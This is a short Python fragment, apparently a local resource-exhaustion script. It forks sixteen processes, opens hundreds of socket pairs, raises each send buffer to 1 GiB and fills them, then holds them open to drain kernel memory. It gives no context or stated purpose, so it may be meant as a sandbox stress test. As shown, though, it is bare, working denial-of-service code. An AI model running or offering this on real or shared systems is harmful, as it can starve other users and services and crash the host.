def fill(sender):
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(16384))
    except BlockingIOError:
        pass


def flood():
    def pair():
        return socket.socketpair()

    kept = []
    for _ in range(100):
        kept += pair()
        for end in kept[-2:]:
            fill(end)
    time.sleep(60)


for _ in range(16):
    if os.fork() == 0:
        flood()
time.sleep(60)
